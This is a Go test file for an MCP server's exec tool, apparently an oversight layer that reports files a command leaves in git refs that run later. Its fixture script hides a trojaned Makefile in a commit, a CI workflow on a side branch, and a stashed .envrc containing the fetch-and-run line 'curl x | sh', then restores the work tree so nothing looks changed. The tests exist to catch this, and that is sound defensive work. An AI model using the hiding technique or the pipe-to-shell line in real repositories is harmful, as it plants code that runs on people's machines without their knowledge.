//go:build unix

package mcpserver

import (
	"path/filepath"
	"strings"
	"testing"
)

// A command commits a trojaned Makefile and puts the work tree back,
// commits a CI workflow on a new branch, and keeps a new .envrc in a
// stash entry (h/ipatk8): no file of the work tree changed, and only the
// person's moved branch was named, not what it carries. The answer now
// names each ref's run-later files; a tag on the person's own first
// commit carries nothing new and is not named.
func TestExecNamesTheRunLaterFilesACommandsCommitsCarry(t *testing.T) {
	t.Parallel()
	bin := helper(t)
	f := newFixture(t)
	app := f.rw
	committedMakefile(t, app)
	write(t, filepath.Join(app, "s.sh"), `set -e
g() { git -c user.name=c -c user.email=c@x -c commit.gpgSign=false "$@"; }
cp Makefile mk.keep
printf 'all:\n\ttouch /tmp/pwned\n' > Makefile
g commit -qam fix
mv mk.keep Makefile
g checkout -q -b side
mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml
g add .github && g commit -qm ci
g checkout -q main
rm -rf .github
mkdir sub && echo 'curl x | sh' > sub/.envrc
g stash push -q -u -- sub
g tag old HEAD~1
echo done
`)
	cfg := rwExec(t, app)
	cs, _ := stdioSession(t, cfg, Options{Helper: bin})
	got := mustAllow(t, cs, "exec", map[string]any{"command": "bash s.sh"})
	if !strings.Contains(got, "done") {
		t.Fatalf("the command did not run: %s", got)
	}
	for ref, files := range map[string][]string{
		"refs/heads/main": {"Makefile (make runs it)"},
		"refs/heads/side": {".github/workflows/ci.yml (CI workflow"},
		"refs/stash":      {"sub/.envrc (direnv"},
	} {
		line := lineWith(got, "after this command "+ref+" ")
		for _, w := range files {
			if !strings.Contains(line, w) {
				t.Errorf("%s: the answer does not name %q:\n%s", ref, w, got)
			}
		}
	}
	if l := lineWith(got, "after this command refs/tags/old "); l != "" {
		t.Errorf("a tag on the person's own commit is named: %s", l)
	}
}

// lineWith is the line of s that holds sub ("" when none does).
func lineWith(s, sub string) string {
	for _, l := range strings.Split(s, "\n") {
		if strings.Contains(l, sub) {
			return l
		}
	}
	return ""
}

// The person's stash holds an older entry with a .envrc and a newer one
// without; a command drops the top. refs/stash then names the person's
// older entry, which mcp (snapshotting only the top) named as if the
// command had made it (h/ipatk8). The whole list is snapshotted now.
func TestExecDoesNotNameThePersonsStashEntryAfterADrop(t *testing.T) {
	t.Parallel()
	bin := helper(t)
	f := newFixture(t)
	app := f.rw
	committedMakefile(t, app)
	write(t, filepath.Join(app, "sub", ".envrc"), "export A=1\n")
	gitIn(t, app, "stash", "push", "-q", "-u", "--", "sub")
	write(t, filepath.Join(app, "notes.txt"), "mine\n")
	gitIn(t, app, "stash", "push", "-q", "-u", "--", "notes.txt")
	cfg := rwExec(t, app)
	cs, _ := stdioSession(t, cfg, Options{Helper: bin})
	got := mustAllow(t, cs, "exec", map[string]any{"command": "git stash drop -q && echo done"})
	if !strings.Contains(got, "done") {
		t.Fatalf("the command did not run: %s", got)
	}
	if l := lineWith(got, "after this command refs/stash "); l != "" {
		t.Errorf("the person's own older stash entry is named as the command's: %s", l)
	}
}
